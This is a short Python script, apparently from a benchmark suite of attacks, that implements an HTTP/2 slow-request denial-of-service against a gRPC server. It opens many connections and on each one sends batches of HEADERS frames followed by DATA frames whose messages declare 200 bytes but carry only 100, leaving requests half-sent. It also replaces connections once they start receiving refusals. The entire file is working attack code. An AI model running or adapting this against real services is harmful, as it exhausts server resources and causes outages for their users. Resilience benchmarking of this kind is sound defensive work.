"""Lookups of which only the first half is ever sent, as many as are taken."""

from __future__ import annotations

from collections import Counter

from benchmarks.attacks.http2_client import DATA, END_HEADERS, HEADERS, Connection, frame, message, request, run

CONNECTIONS = 120
STREAMS = 100
"""Of one connection."""
AT_ONCE = 4
"""gRPC itself refuses a part of what comes faster than it hands it over."""
PAUSE_SECONDS = 0.2
REFUSED_BYTES = 10_000
"""What has received as much has been refused, and is replaced."""


def attack(connection: Connection, sent: Counter[str]) -> None:
    if connection.received > REFUSED_BYTES:
        connection.open = False
    if connection.next_stream > 2 * STREAMS:
        return
    calls = b""
    for _ in range(AT_ONCE):
        calls += frame(HEADERS, connection.next_stream, request(), END_HEADERS)
        calls += frame(DATA, connection.next_stream, message(bytes(100), declared=200))
        connection.next_stream += 2
    connection.send(calls)
    sent.update(calls=AT_ONCE, bytes=len(calls))


if __name__ == "__main__":
    run(attack, CONNECTIONS, PAUSE_SECONDS)
